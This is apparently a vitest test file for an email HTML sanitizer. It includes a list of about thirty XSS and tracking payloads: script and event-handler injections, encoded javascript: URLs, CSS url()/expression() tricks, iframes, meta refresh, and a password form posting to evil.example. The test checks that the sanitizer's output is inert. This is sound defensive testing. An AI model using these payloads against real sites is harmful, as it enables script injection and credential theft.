import { existsSync, readFileSync } from 'node:fs';
import { CORPUS_DIR } from '../support/corpus.js';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from '../../src/adapters/html/sanitize.js';
import { parseEmail } from '../../src/adapters/mime/parse.js';

/** The sanitized output must be inert: nothing runs, navigates the page or loads remote content. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i); // no on* handler attribute on any tag
  expect(html).not.toMatch(/<[^>]*(javascript|vbscript|data):/i); // no dangerous URL inside any tag
  expect(html).not.toMatch(/<[^>]*\ssrc\s*=\s*["']?\s*(https?:)?\/\//i); // no remote src= (data-blocked-src is inert)
  expect(html).not.toMatch(/<[^>]*url\s*\(/i); // no CSS url() in any style attribute
  expect(html).not.toMatch(/<(iframe|object|embed|form|input|meta|link|base|style|svg|math|frame|frameset)\b/i);
}

const PAYLOADS: { name: string; html: string; keeps?: string }[] = [
  { name: 'script tag', html: '<p>Hi</p><script>alert(document.cookie)</script>', keeps: '<p>Hi</p>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>ok', keeps: 'ok' },
  { name: 'img onerror', html: '<img src=x onerror="alert(1)">' },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r=1 /></svg>text', keeps: 'text' },
  { name: 'body onload', html: '<body onload="alert(1)"><p>b</p></body>', keeps: '<p>b</p>' },
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">click</a>', keeps: 'click' },
  { name: 'javascript: with case and whitespace', html: '<a href=" JaVaScRiPt:alert(1)">x</a>' },
  { name: 'entity-encoded javascript:', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'hex-entity javascript: with tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'vbscript: href', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data: href', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'data: image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'style expression()', html: '<div style="width: expression(alert(1)); color: red">s</div>', keeps: 'color:red' },
  { name: 'style url()', html: '<div style="background-image: url(https://tracker.example/p.gif)">s</div>' },
  { name: 'style url() via background shorthand', html: '<td style="background: #fff url(\'//tracker.example/p.gif\')">s</td>' },
  { name: 'style url() hidden by a CSS escape', html: '<div style="background: \\75 rl(https://evil.example/)">s</div>' },
  { name: 'style behavior / -moz-binding', html: '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">s</div>' },
  { name: 'style element', html: '<style>@import url(https://evil.example/x.css); body { background: url(https://t.example/) }</style><p>x</p>', keeps: '<p>x</p>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">hello', keeps: 'hello' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/login">x</a>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">x' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>after', keeps: 'after' },
  { name: 'iframe src', html: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'object / embed', html: '<object data="x.swf"></object><embed src="x.swf">' },
  { name: 'form with action', html: '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'math / xlink', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>' },
  { name: 'unclosed attribute trick', html: '<img src="x" alt="a" onerror="alert(1)"//' },
  { name: 'comment-split tag', html: '<scr<!-- -->ipt>alert(1)</script>' },
  { name: 'nested script breaking out', html: '<<script>script>alert(1)<</script>/script>' },
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'remote image', html: '<img src="https://tracker.example/pixel.gif" width="1" height="1">' },
  { name: 'protocol-relative image', html: '<img src="//tracker.example/pixel.gif">' },
];

describe('sanitizeEmailHtml: XSS payloads', () => {
  for (const p of PAYLOADS) {
    it(p.name, () => {
      const { html } = sanitizeEmailHtml(p.html);
      expectInert(html);
      if (p.keeps) expect(html).toContain(p.keeps);
    });
  }
});

describe('sanitizeEmailHtml: what it keeps and rewrites', () => {
  it('keeps ordinary formatting, tables and safe inline styles', () => {
    const src = '<table border="1" cellpadding="2"><tr><td style="color: #333; font-weight: bold; padding: 4px" align="left">Hi <b>there</b></td></tr></table><ul><li><i>one</i></li></ul>';
    const { html, blockedRemote } = sanitizeEmailHtml(src);
    expect(blockedRemote).toBe(0);
    expect(html).toContain('<table border="1" cellpadding="2">');
    expect(html).toContain('style="color:#333;font-weight:bold;padding:4px"');
    expect(html).toContain('<b>there</b>');
    expect(html).toContain('<li><i>one</i></li>');
  });

  it('forces links to open in a new tab without referrer or opener', () => {
    const { html } = sanitizeEmailHtml('<a href="https://example.org/x" target="_self" rel="opener">x</a> <a href="mailto:a@example.org">m</a>');
    expect(html).toContain('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">x</a>');
    expect(html).toContain('<a href="mailto:a@example.org" target="_blank" rel="noopener noreferrer nofollow">m</a>');
  });

  it('blocks remote images, keeps the address in data-blocked-src and counts them with CSS url()s', () => {
    const { html, blockedRemote } = sanitizeEmailHtml('<img src="https://t.example/a.gif" alt="logo"><img src="http://t.example/b.gif"><p style="background: url(https://t.example/c.gif); color: red">x</p>');
    expect(blockedRemote).toBe(3);
    expect(html).toMatch(/<img (?=[^>]*data-blocked-src="https:\/\/t\.example\/a\.gif")(?=[^>]*alt="\[remote image blocked\]")[^>]*\/>/);
    expect(html).toContain('data-blocked-src="http://t.example/b.gif"');
    expect(html).toContain('<p style="color:red">x</p>');
    expect(html).not.toMatch(/\ssrc=/);
  });

  it('rewrites cid: images to the attachment URL of the matching Content-ID', () => {
    const { html, blockedRemote } = sanitizeEmailHtml('<img src="cid:Logo@Example.org" alt="logo"><img src="cid:missing@x">', {
      cidUrls: new Map([['<logo@example.org>', '/api/v1/contacts/c1/attachments/2']]),
    });
    expect(blockedRemote).toBe(0);
    expect(html).toMatch(/<img (?=[^>]*src="\/api\/v1\/contacts\/c1\/attachments\/2")(?=[^>]*alt="logo")[^>]*\/>/);
    expect(html).toContain('<img alt="[missing inline image]" />');
  });

  it('drops DOM-clobbering ids, names and classes', () => {
    const { html } = sanitizeEmailHtml('<p id="x" class="admin" name="y">t</p>');
    expect(html).toBe('<p>t</p>');
  });
});

const CORPUS = CORPUS_DIR;
const manifest = join(CORPUS, 'MANIFEST.tsv');
const entries = existsSync(manifest)
  ? readFileSync(manifest, 'utf8').split('\n').slice(1).filter(Boolean).map((l) => l.split('\t'))
    .filter((cols) => cols[5] === 'xss' || cols[5] === 'html').map((cols) => ({ path: cols[0], category: cols[5] }))
  : [];

describe('sanitizeEmailHtml: corpus sweep (xss and html messages)', () => {
  if (entries.length === 0) {
    it.skip(`corpus not found at ${CORPUS} (MANIFEST.tsv with categories xss/html); sweep skipped`, () => undefined);
    return;
  }
  it(`leaves no active or remote content in any of ${entries.length} messages`, async () => {
    let withHtml = 0;
    let blocked = 0;
    const failures: string[] = [];
    for (const e of entries) {
      const file = join(CORPUS, e.path);
      if (!existsSync(file)) { failures.push(`${e.path}: listed in MANIFEST.tsv but missing`); continue; }
      const parsed = await parseEmail(readFileSync(file));
      if (!parsed.ok || !parsed.email.html) continue;
      withHtml++;
      const cidUrls = new Map(parsed.email.attachments.filter((a) => a.contentId).map((a) => [a.contentId as string, `/api/v1/contacts/c/attachments/${a.index}`]));
      const out = sanitizeEmailHtml(parsed.email.html, { cidUrls });
      blocked += out.blockedRemote;
      try { expectInert(out.html); } catch (err) { failures.push(`${e.path}: ${(err as Error).message.split('\n')[0]}`); }
    }
    expect(failures).toEqual([]);
    expect(withHtml).toBeGreaterThan(50);
    expect(blocked).toBeGreaterThan(0);
  });
});
